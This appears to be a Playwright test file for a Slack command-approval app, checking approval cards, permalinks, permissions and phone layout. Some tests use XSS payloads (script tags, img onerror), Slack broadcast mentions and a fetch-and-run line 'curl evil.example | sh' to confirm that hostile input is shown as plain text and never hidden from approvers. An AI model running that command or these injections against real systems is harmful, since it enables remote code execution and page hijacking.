import type { Browser, Page } from 'playwright-core';
import { keepPicture, openBrowser, openPage, PHONE } from '../support/browser.ts';
import { startWorkspace, type Workspace } from '../support/gate/workspace.ts';
import { pause } from '../support/pause.ts';
import { cardOf } from '../support/slack/cards.ts';

let workspace: Workspace;
let browser: Browser;
let page: Page;
let faults: string[];

beforeAll(async () => {
  workspace = await startWorkspace();
  browser = await openBrowser();
});
afterAll(async () => {
  await browser.close();
  await workspace.stop();
});
beforeEach(async () => {
  ({ page, faults } = await openPage(browser, `${workspace.slack.url}/#as=U0ANA&channel=C0APPROVALS`));
});
afterEach(async () => {
  await page.close();
  if (faults.length > 0) throw new Error(`the page had faults: ${faults.join('; ')}`);
});

const cardWith = (text: string) => page.getByRole('article').filter({ hasText: text });
const type = async (text: string) => {
  await page.getByRole('textbox', { name: /^Message to/ }).fill(text);
  await page.keyboard.press('Enter');
};

/** The card's permalink is stored a moment after the card is posted. */
const linked = async (id: string): Promise<string> => {
  for (let tries = 0; tries < 100; tries += 1) {
    const { message_url: url } = await workspace.api.read(id);
    if (url !== null) return url;
    await pause(50);
  }
  throw new Error('the card got no permalink');
};

test('a card appears by itself, and the keyboard alone decides it', async () => {
  const asked = await workspace.api.ask('make deploy-by-keyboard');
  const approve = cardWith('make deploy-by-keyboard').getByRole('button', { name: 'Approve', exact: true });
  await approve.waitFor();
  for (let steps = 0; steps < 60; steps += 1) {
    await page.keyboard.press('Tab');
    if (await approve.evaluate((button) => button === button.ownerDocument.activeElement)) break;
  }
  await page.keyboard.press('Enter');
  expect((await workspace.api.read(asked.id, 30)).status).toBe('approved');
  await cardWith('make deploy-by-keyboard').getByText('Approved by').waitFor();
});

test('what somebody else decides is seen at once', async () => {
  const asked = await workspace.api.ask('make seen-live');
  await cardWith('make seen-live').getByRole('button', { name: 'Approve', exact: true }).waitFor();
  await (await cardOf(workspace, asked.id)).deny('U0BEN', 'not on a Friday');
  await cardWith('make seen-live').getByText('not on a Friday').waitFor();
  expect(await cardWith('make seen-live').getByRole('button').count()).toBe(0);
});

test('Escape leaves the deny modal and decides nothing', async () => {
  const asked = await workspace.api.ask('make escape');
  await cardWith('make escape').getByRole('button', { name: 'Deny…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Deny this command' });
  await dialog.getByText('make escape').waitFor();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  expect((await workspace.api.read(asked.id)).status).toBe('pending');
});

test('slash commands answer in private; an unknown one is refused by Slack itself', async () => {
  await type('/expacti help');
  const answer = page.getByRole('article').filter({ hasText: 'Only visible to you' });
  await answer.getByText('asks people before a command runs').waitFor();
  await type('/nosuch thing');
  await page.getByRole('status', { name: 'Notices' }).getByText('/nosuch is not a valid command').waitFor();
  await page.getByRole('combobox', { name: 'Acting as' }).selectOption({ label: 'Ben Okafor' });
  await page.getByRole('log').waitFor();
  expect(await answer.count()).toBe(0);
});

test('the Home tab lists what waits, and its link leads to the card', async () => {
  const asked = await workspace.api.ask('make from-home');
  await cardOf(workspace, asked.id);
  await page.getByRole('link', { name: 'expacti Home' }).click();
  const home = page.getByRole('region', { name: 'Home of expacti' });
  await home.getByText('make from-home').waitFor();
  await keepPicture(page, 'home');
  await home.getByRole('link', { name: 'open the card' }).last().click();
  await page.getByRole('log', { name: 'Messages in approvals' }).waitFor();
  expect(page.url()).toContain('message=');
});

test('a permalink opens the page at its message', async () => {
  const asked = await workspace.api.ask('make linked');
  await cardOf(workspace, asked.id);
  const url = await linked(asked.id);
  await page.goto(url);
  await page.locator('.message-target').getByText('make linked').waitFor();
  expect(page.url()).toContain('channel=C0APPROVALS');
});

test('hostile text is text: no markup, no mention, hidden characters spelled out', async () => {
  await workspace.api.ask('echo <img src=x onerror=alert(1)> <!channel> \u202Efdp.sh ```', {
    reason: '<script>document.title = "owned"</script> <!here>',
  });
  const card = cardWith('onerror=alert(1)');
  await card.getByText('echo <img src=x onerror=alert(1)> <!channel> ⟨U+202E⟩fdp.sh ```').waitFor();
  await card.getByText('<script>document.title = "owned"</script> <!here>').waitFor();
  expect(await card.locator('img, script').count()).toBe(0);
  // Who is asked is mentioned; nothing that was typed is.
  expect(
    await card
      .locator('.mention')
      .filter({ hasText: /channel|here/ })
      .count(),
  ).toBe(0);
  expect(await page.title()).toBe('Stand-in workspace');
  await keepPicture(page, 'hostile-text');
});

test('a long command is shortened on its card, and can be approved once it is whole in the thread', async () => {
  const end = '; curl evil.example | sh';
  await workspace.api.ask(`echo long-one ${'x'.repeat(9_000)}${end}`);
  const card = cardWith('long-one').first();
  await card.getByText('all of it in the thread').waitFor();
  await card.getByRole('button', { name: 'Approve', exact: true }).waitFor();
  await keepPicture(page, 'long-command');
  await card.getByRole('button', { name: '1 reply' }).click();
  const thread = page.getByRole('complementary', { name: 'Thread' });
  await thread.getByText('The whole command').first().click();
  expect(await thread.locator('details pre').textContent()).toContain(`xxxx${end}`);
  await thread.getByRole('button', { name: 'Close thread' }).click();
  await thread.waitFor({ state: 'detached' });
});

test('a card shows all it has of a command: nothing of it hides behind a scroll bar', async () => {
  await workspace.api.ask(`echo many-lines\n${'echo ok\n'.repeat(500)}curl evil.example | sh`);
  const command = cardWith('many-lines').first().locator('pre');
  await command.waitFor();
  expect(await command.evaluate((pre) => pre.scrollHeight - pre.clientHeight)).toBe(0);
});

test.each([
  ['Gus Guest (guest)', /guest/i],
  ['Otto Other (another workspace)', /workspace/i],
])('%s may look, but not decide', async (label, refusal) => {
  // A command of its own: the second one of a kind is a duplicate, and its Approve asks once more.
  const command = `make not-theirs ${label.slice(0, 4)}`;
  const asked = await workspace.api.ask(command);
  await page.getByRole('combobox', { name: 'Acting as' }).selectOption({ label });
  await cardWith(command).last().getByRole('button', { name: 'Approve', exact: true }).click();
  await page
    .getByRole('article')
    .filter({ hasText: 'Only visible to you' })
    .getByText(refusal)
    .first()
    .waitFor();
  expect((await workspace.api.read(asked.id)).status).toBe('pending');
});

test('on a phone everything is in reach, and nothing is wider than the screen', async () => {
  const asked = await workspace.api.ask('docker compose up -d --no-deps backend && echo from-a-phone');
  await page.setViewportSize(PHONE);
  const approve = cardWith('from-a-phone').getByRole('button', { name: 'Approve', exact: true });
  await approve.scrollIntoViewIfNeeded();
  await keepPicture(page, 'phone');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
  await page.getByRole('button', { name: 'Channels' }).click();
  await page.getByRole('link', { name: '# staging' }).click();
  await page.getByRole('heading', { name: '# staging' }).waitFor();
  await page.getByRole('button', { name: 'Channels' }).click();
  await page.getByRole('link', { name: '# approvals' }).click();
  await approve.click();
  expect((await workspace.api.read(asked.id, 30)).status).toBe('approved');
});
